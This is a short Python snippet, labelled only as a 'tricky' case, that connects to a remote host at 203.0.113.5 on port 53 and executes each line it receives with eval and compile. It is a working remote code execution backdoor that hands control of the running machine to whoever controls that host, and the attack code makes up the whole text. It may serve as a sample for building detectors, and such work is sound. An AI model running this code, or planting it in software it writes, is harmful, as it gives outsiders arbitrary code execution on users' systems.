# tricky: eval of what a socket says, in steps
import socket as so
k = so.create_connection(("203.0.113.5", 53))
buf = k.makefile("r")
while (ln := buf.readline()):
    eval(compile(ln, "", "exec"))
